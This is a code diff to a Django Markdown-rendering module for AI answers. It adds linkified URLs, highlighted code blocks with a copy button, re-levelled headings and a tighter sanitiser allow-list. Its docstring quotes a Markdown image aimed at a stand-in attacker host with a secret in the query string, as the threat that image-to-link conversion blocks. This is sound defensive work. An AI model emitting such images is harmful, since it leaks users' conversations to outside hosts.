@@ -8,8 +8,14 @@ event handler, style or htmx attribute survives.
 Nothing in an answer makes the browser fetch anything by itself: an image such
 as ``![p](https://evil.example/?d=SECRET)`` would carry the conversation off
 the moment it is shown, so a Markdown image becomes a link to it instead (a
-link is fetched only when clicked). Table alignment becomes a class, since the
-Content-Security-Policy allows no style attributes.
+link is fetched only when clicked). Bare URLs become links too (``http``,
+``https`` and e-mail addresses only, so ``main.py`` stays text). Table alignment
+becomes a class, since the Content-Security-Policy allows no style attributes.
+
+Code blocks carry their language's name, Pygments' highlighting (the colours of
+static/css/pygments.css, contrast-checked) and a "Copy code" button, which
+static/js/copy.js handles. Headings continue the page's outline rather than
+break it: an answer's ``#`` is an h3, under the page's "Conversation" h2.
 
 An answer is rendered once, when its run ends, and stored with
 ``RENDERER_VERSION`` (bump it whenever the rendering or the sanitiser
@@ -23,15 +29,19 @@ import nh3
 from django.utils.html import escape
 from django.utils.safestring import SafeString, mark_safe
 from markdown_it import MarkdownIt
-from markdown_it.common.utils import escapeHtml
+from markdown_it.common.utils import escapeHtml, unescapeAll
 from markdown_it.renderer import RendererHTML
+from markdown_it.rules_core import StateCore
 from markdown_it.token import Token
 from markdown_it.utils import EnvType, OptionsDict
 
 from workbench.limits import MARKDOWN_LIMIT
+from workbench.snippets.highlight import TOKEN_CLASSES, highlight, lexer_for
 
-RENDERER_VERSION = 3
+RENDERER_VERSION = 4
 ALIGN_CLASSES = {"align-left", "align-center", "align-right"}  # see workbench.css
+PAGE_LEVEL = 2  # the level of the heading answers sit under ("Conversation")
+LANGUAGE_LABEL = 40  # characters of a code block's language shown at most
 
 
 def _image_as_link(
@@ -60,16 +70,51 @@ def _cell_with_align_class(
     return self.renderToken(tokens, idx, options, env)
 
 
-_MD = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
+def _code_block(
+    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+) -> str:
+    """A fenced or indented code block: a bar naming its language, with a Copy code
+    button, above the code, highlighted when Pygments knows the language."""
+    token = tokens[idx]
+    words = unescapeAll(token.info).split(maxsplit=1)
+    language = words[0] if words else ""
+    lexer = lexer_for(language) if language else None
+    code = highlight(token.content, lexer) if lexer else escapeHtml(token.content)
+    label = escapeHtml(lexer.name if lexer else language[:LANGUAGE_LABEL] or "Text")
+    return (
+        '<div class="code-block"><div class="code-bar">'
+        f'<span class="code-lang">{label}</span>'
+        '<button type="button" class="copy-code">Copy code</button></div>'
+        f'<pre class="highlight"><code>{code}</code></pre></div>\n'
+    )
+
+
+def _headings_under_the_page(state: StateCore) -> None:
+    """``#`` becomes h3, ``##`` h4 and so on, and no heading is more than one level
+    below the one before it (from the page's h2 on), as axe's heading-order asks."""
+    previous = PAGE_LEVEL
+    for token in state.tokens:
+        if token.type == "heading_open":
+            previous = min(int(token.tag[1]) + PAGE_LEVEL, previous + 1, 6)
+        if token.type in ("heading_open", "heading_close"):
+            token.tag = f"h{previous}"
+
+
+_MD = MarkdownIt("commonmark", {"html": False, "linkify": True})
+_MD.enable(["table", "strikethrough", "linkify"])
+_MD.linkify.set({"fuzzy_link": False})  # a scheme makes a link: "main.py" is a file name
+for _schema in ("//", "ftp:"):  # links the sanitiser would keep relative, or empty
+    _MD.linkify.add(_schema, None)
+_MD.core.ruler.push("headings_under_the_page", _headings_under_the_page)
 _MD.add_render_rule("image", _image_as_link)
 _MD.add_render_rule("th_open", _cell_with_align_class)
 _MD.add_render_rule("td_open", _cell_with_align_class)
+_MD.add_render_rule("fence", _code_block)
+_MD.add_render_rule("code_block", _code_block)
 _TAGS = {
     "p",
     "br",
     "hr",
-    "h1",
-    "h2",
     "h3",
     "h4",
     "h5",
@@ -90,8 +135,19 @@ _TAGS = {
     "tr",
     "th",
     "td",
+    "div",
+    "span",
+    "button",
 }
-_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}}
+_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "button": {"type"}}
+_CLASSES = {
+    "th": ALIGN_CLASSES,
+    "td": ALIGN_CLASSES,
+    "div": {"code-block", "code-bar"},
+    "span": {"code-lang", *TOKEN_CLASSES},
+    "pre": {"highlight"},
+    "button": {"copy-code"},
+}
 
 
 def render_markdown(text: str) -> SafeString:
@@ -100,7 +156,8 @@ def render_markdown(text: str) -> SafeString:
         html,
         tags=_TAGS,
         attributes=_ATTRIBUTES,
-        allowed_classes={"th": ALIGN_CLASSES, "td": ALIGN_CLASSES},
+        allowed_classes=_CLASSES,
+        set_tag_attribute_values={"button": {"type": "button"}},  # it never submits a form
         url_schemes={"http", "https", "mailto"},
         link_rel="noopener noreferrer nofollow",
     )
